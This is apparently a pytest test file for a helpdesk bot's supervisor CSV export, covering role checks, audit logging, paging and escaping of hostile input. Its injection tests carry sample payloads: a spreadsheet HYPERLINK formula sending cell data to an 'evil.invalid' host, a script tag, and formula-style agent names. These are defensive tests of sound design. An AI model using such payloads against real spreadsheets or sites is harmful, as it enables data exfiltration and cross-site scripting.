"""What a supervisor takes away: who may, what is in it, that it is the filter's, and that it is written down."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from aiohttp import ClientError, web
from aiohttp.test_utils import TestClient, TestServer

from bot.audit import Audit
from bot.desk.desk import Desk
from bot.desk.policy import Policy
from bot.desk.texts import load_desk_texts
from bot.dialogue import Channel
from bot.errors import StoreUnavailable
from bot.opening_hours import Hours
from bot.origins import Origins
from bot.pack import load_pack
from bot.store import HandoverReason, Store
from bot.store.desk_records import AnnotationRecord, Verdict
from bot.store.past import Sought
from bot.web import desk as desk_routes
from bot.web.agent_sessions import CONSOLE_ORIGINS
from bot.web.desk import export
from bot.web.errors import SECURITY_HEADERS, errors_and_headers
from bot.web.keys import AUDIT, CALL_PHASE, DESK_TOKEN, STORE
from tests.browser.payloads import PAYLOADS
from tests.databases import prepared_url
from tests.unit.desk.conftest import KNOWLEDGE, Visitors, chat

TOKEN = {"Authorization": "Bearer desk-secret"}
Client = TestClient[web.Request, web.Application]


def as_(role: str, name: str = "Anne%20D.") -> dict[str, str]:
    return TOKEN | {"X-Guichet-Agent": f"anne?name={name}&role={role}"}


@pytest.fixture
async def store(tmp_path: Path) -> AsyncIterator[Store]:
    store = await Store.open(prepared_url(tmp_path))
    yield store
    await store.close()


@pytest.fixture
def desk(store: Store) -> Desk:
    pack = load_pack()
    desk = Desk(store, Hours(), KNOWLEDGE, load_desk_texts(pack, pack.prompts()), Policy())
    desk.serve(Visitors())
    return desk


@pytest.fixture
async def client(store: Store, desk: Desk) -> AsyncIterator[Client]:
    app = web.Application(middlewares=[errors_and_headers])
    app[STORE], app[DESK_TOKEN], app[AUDIT] = store, "desk-secret", Audit(store)
    app[CALL_PHASE] = lambda _: "listening"
    app[CONSOLE_ORIGINS] = Origins.of((), "", "http://127.0.0.1:8010")
    app.add_routes(desk_routes.routes)
    desk_routes.add_desk(app, desk)
    async with TestClient(TestServer(app)) as client:
        yield client


async def table(client: Client, path: str, role: str = "supervisor") -> list[dict[str, str]]:
    async with client.get(f"/api/desk/{path}", headers=as_(role)) as response:
        assert response.status == 200, await response.text()
        content = await response.read()
    assert content.startswith(b"\xef\xbb\xbf")
    text = content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";", strict=True))


async def audited(store: Store) -> list[tuple[str, dict[str, Any]]]:
    return [(entry.action, entry.details) for entry in await store.latest_audit()]


async def asked(desk: Desk, store: Store, summary: str = "« Comment adhérer ? »") -> str:
    """A conversation in which a person was asked for; its id."""
    conversation_id = await chat(store)
    await desk.request(conversation_id, Channel.WEB, HandoverReason.ASKED, summary)
    return conversation_id


@pytest.mark.parametrize("role", ["agent", "editor"])
async def test_conversations_are_taken_away_by_supervisors_only(client: Client, role: str) -> None:
    async with client.get("/api/desk/export.csv", headers=as_(role)) as response:
        assert (response.status, (await response.json())["error"]["code"]) == (403, "forbidden")
    async with client.get("/api/desk/export.csv") as response:
        assert response.status == 401
    assert await table(client, "export.csv", "administrator") == []


async def test_figures_are_for_who_may_read_them(client: Client) -> None:
    async with client.get("/api/desk/figures.csv", headers=as_("agent")) as response:
        assert response.status == 403
    assert len(await table(client, "figures.csv?days=3", "editor")) == 3


async def test_the_table_opens_in_a_french_spreadsheet_and_is_kept_by_nobody_on_the_way(client: Client) -> None:
    async with client.get("/api/desk/export.csv", headers=as_("supervisor")) as response:
        content = await response.read()
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert response.headers["Content-Disposition"].startswith('attachment; filename="guichet-conversations-20')
        for name, value in SECURITY_HEADERS.items():
            assert response.headers[name] == value
    heads = content.decode("utf-8-sig")
    assert heads.startswith('"Conversation";"Canal";"Début (Europe/Paris)";')
    assert heads.endswith("\r\n")


async def test_what_was_said_is_only_there_when_it_was_asked_for(client: Client, desk: Desk, store: Store) -> None:
    conversation_id = await asked(desk, store)
    [row] = await table(client, "export.csv")
    assert (row["Conversation"], row["Canal"], row["Issue"]) == (conversation_id, "Site", "Non prise")
    assert row["Sujets répondus"] == "Adhérer au service"
    assert "Comment adhérer" not in str(row)
    [row] = await table(client, "export.csv?personal=1")
    assert row["Ce qui a été dit"] == "Comment adhérer ?"
    assert row["Résumé"] == "« Comment adhérer ? »"


async def test_times_are_the_services(client: Client, desk: Desk, store: Store) -> None:
    conversation_id = await asked(desk, store)
    conversation = await store.conversation(conversation_id)
    assert conversation is not None
    [row] = await table(client, "export.csv")
    started = conversation.started_at.astimezone(desk.hours.zone)
    assert row["Début (Europe/Paris)"] == f"{started:%Y-%m-%d %H:%M:%S}"


async def test_it_holds_what_the_search_finds_and_no_more(client: Client, desk: Desk, store: Store) -> None:
    with_person, without = await asked(desk, store), await chat(store)
    for query, found in (
        ("", {with_person, without}),
        ("?handover=1", {with_person}),
        ("?channel=phone", set()),
        ("?verdict=right", set()),
        ("?q=ADHERER", {with_person, without}),
        ("?q=introuvable", set()),
        (f"?q={without[:12]}", {without}),
    ):
        assert {row["Conversation"] for row in await table(client, f"export.csv{query}")} == found, query
        async with client.get(f"/api/desk/conversations{query}", headers=as_("supervisor")) as response:
            assert {one["id"] for one in (await response.json())["conversations"]} == found


@pytest.mark.parametrize("query", ["channel=fax", "verdict=great", "agent=%3Cscript%3E"])
async def test_a_filter_that_makes_no_sense_is_refused_before_anything_is_sent(client: Client, query: str) -> None:
    async with client.get(f"/api/desk/export.csv?{query}", headers=as_("supervisor")) as response:
        assert (response.status, (await response.json())["error"]["code"]) == (400, "bad_request")


async def test_many_pages_come_as_one_table(client: Client, store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "_ROWS_AT_ONCE", 2)
    ids = [await chat(store) for _ in range(7)]
    rows = await table(client, "export.csv")
    assert sorted(row["Conversation"] for row in rows) == sorted(ids)


async def test_every_export_is_written_down_before_and_counted_after(client: Client, desk: Desk, store: Store) -> None:
    await asked(desk, store)
    await table(client, "export.csv?handover=1&q=Jean+Dupont&personal=1")
    await table(client, "figures.csv?days=2")
    (_, figures), (_, asked_figures), (_, counted), (_, filtered) = await audited(store)
    assert filtered == {"requested": True, "words": True, "personal": True}
    assert counted == {"of": 1, "rows": 0, "complete": True}
    assert asked_figures == {"days": 2}
    assert figures == {"of": 3, "rows": 2, "complete": True}
    assert [action for action, _ in reversed(await audited(store))] == [
        "conversations.export", "conversations.exported", "figures.export", "figures.exported",
    ]  # fmt: skip
    assert "Dupont" not in str(await audited(store))


async def test_what_cannot_be_written_down_is_not_exported(
    client: Client, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def away(*_: object) -> None:
        raise StoreUnavailable("The disk is full.")

    monkeypatch.setattr(store, "append_audit", away)
    async with client.get("/api/desk/export.csv", headers=as_("supervisor")) as response:
        assert (response.status, (await response.json())["error"]["code"]) == (503, "unavailable")


async def test_half_of_a_table_does_not_look_like_a_whole_one(
    client: Client, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "_ROWS_AT_ONCE", 2)
    for _ in range(5):
        await chat(store)
    whole, pages = store.past, 0

    async def breaking(*args: Any, **more: Any) -> Any:
        nonlocal pages
        pages += 1
        if pages > 2:
            raise StoreUnavailable("The database is gone.")
        return await whole(*args, **more)

    monkeypatch.setattr(store, "past", breaking)
    with pytest.raises(ClientError):
        async with client.get("/api/desk/export.csv", headers=as_("supervisor")) as response:
            await response.read()
    (action, detail), *_ = await audited(store)
    assert (action, detail["complete"], detail["rows"]) == ("conversations.exported", False, 4)


async def test_hostile_words_and_names_go_through_it_as_text(client: Client, desk: Desk, store: Store) -> None:
    for text in PAYLOADS:
        await asked(desk, store, text)
    rows = await table(client, "export.csv?personal=1")
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        assert None not in row
        assert all(not cell or cell[0] not in "=+-@\t\r\n" for cell in row.values()), row
    summaries = {row["Résumé"] for row in rows}
    assert "'" + '=HYPERLINK("https://evil.invalid/"&A1,"cliquez")' in summaries
    assert "<script>window.xss=1</script>" in summaries


async def test_an_agents_hostile_name_is_no_formula(client: Client, desk: Desk, store: Store) -> None:
    evil = as_("supervisor", "%3D1%2B1%3B%22x%0A%3D2")
    async with client.put("/api/desk/presence", json={"status": "available"}, headers=evil):
        pass
    conversation_id = await asked(desk, store)
    async with client.get("/api/desk/overview", headers=evil) as response:
        [request] = (await response.json())["handovers"]
    async with client.post(f"/api/desk/handovers/{request['id']}/take", headers=evil) as response:
        assert response.status == 200
    [row] = await table(client, "export.csv")
    assert (row["Conversation"], row["Issue"]) == (conversation_id, "En cours")
    assert row["Conseiller"].startswith("'=1+1;")


async def test_each_day_of_the_services_zone_has_a_line_also_when_nothing_happened(
    client: Client, desk: Desk, store: Store
) -> None:
    conversation_id = await asked(desk, store)
    now = desk.clock()
    await store.keep(AnnotationRecord("a1", conversation_id, None, now, "anne", "Anne D.", Verdict.RIGHT))
    rows = await table(client, "figures.csv?days=3")
    zone = desk.hours.zone
    days = [f"{now.astimezone(zone).date() - timedelta(days=back)}" for back in (2, 1, 0)]
    assert [row["Jour (Europe/Paris)"] for row in rows] == days
    assert [row["Personnes demandées"] for row in rows] == ["0", "0", "1"]
    assert (rows[2]["Refusées, personne"], rows[2]["Avis, robot juste"]) == ("1", "1")
    assert rows[0]["Attente médiane (secondes)"] == ""
    for wrong in ("0", "367", "x"):
        async with client.get(f"/api/desk/figures.csv?days={wrong}", headers=as_("supervisor")) as response:
            assert response.status == 400


async def test_the_overview_tells_where_the_service_is(client: Client) -> None:
    async with client.get("/api/desk/overview", headers=as_("agent")) as response:
        assert (await response.json())["service"]["time_zone"] == "Europe/Paris"


async def test_ten_thousand_conversations_are_sent_page_by_page(client: Client, store: Store) -> None:
    seen: list[int] = []
    whole = store.past

    async def counting(sought: Sought, limit: int, **more: Any) -> Any:
        seen.append(limit)
        return await whole(sought, limit, **more)

    store.past = counting  # type: ignore[method-assign]
    await table(client, "export.csv")
    assert max(seen) <= 200
